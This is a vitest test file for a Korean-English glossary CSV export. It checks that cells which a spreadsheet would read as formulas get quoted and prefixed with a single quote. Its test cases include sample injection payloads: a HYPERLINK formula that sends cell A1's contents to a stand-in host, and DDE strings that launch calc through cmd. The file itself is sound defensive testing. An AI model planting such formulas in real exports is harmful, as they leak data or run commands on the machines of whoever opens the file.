/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with = + - @, a tab
 * or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets. The export
 * writes every such cell quoted, with a single quote first, whatever it holds: even a legitimate
 * one (a suffix like -률, a figure like +3%) gets it, so the rule is the same for every cell and
 * a reader or a script knows that one leading ' was added. Every other cell, Korean included,
 * is written as before.
 */
import { describe, expect, it } from 'vitest';
import { glossaryToCsv, type ExportTerm } from '../../../src/glossary/exportCsv';

const term = (over: Partial<ExportTerm>): ExportTerm => ({
  id: 'x',
  ko: '원격의료',
  en: ['telemedicine'],
  pos: 'noun',
  category: 'healthcare',
  definitionEn: 'Care given at a distance.',
  definitionKo: '멀리서 하는 진료.',
  romanization: 'wongyeok-uiryo',
  pronunciation: '[원겨긔료]',
  related: [],
  ...over,
});

/** The data row of one term, as written (BOM, header and the final CRLF left out). */
const row = (t: ExportTerm) => glossaryToCsv([t]).split('\r\n')[1];

describe('glossaryToCsv against formula injection', () => {
  const cases: [string, string][] = [
    [
      '=HYPERLINK("http://x.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`,
    ],
    ['+1+1', `"'+1+1"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ];
  for (const [value, written] of cases) {
    it(`neutralises a cell starting with ${JSON.stringify(value[0])}`, () => {
      expect(row(term({ definitionEn: value }))).toContain(`,${written},`);
    });
  }

  it('neutralises legitimate text the same way: a suffix, a signed figure, a handle', () => {
    const out = row(
      term({
        ko: '-률',
        en: ['-rate', 'ratio'],
        definitionEn: '+3% a year',
        definitionKo: '@아마존',
      }),
    );
    expect(out).toBe(
      `x,"'-률","'-rate; ratio",noun,healthcare,"'+3% a year","'@아마존",wongyeok-uiryo,[원겨긔료],,,,,`,
    );
  });

  it('leaves every other cell as it was: Korean, letters, digits, a dash or = inside', () => {
    const out = row(
      term({
        ko: '원격-의료',
        en: ['e-health', '3D care'],
        definitionEn: 'a = b',
        definitionKo: "'인용'",
      }),
    );
    expect(out).toBe(
      `x,원격-의료,e-health; 3D care,noun,healthcare,a = b,'인용',wongyeok-uiryo,[원겨긔료],,,,,`,
    );
  });

  it('checks only the first character of the cell (a list cell as a whole)', () => {
    expect(row(term({ en: ['ratio', '-rate'] }))).toContain(',ratio; -rate,');
  });
});
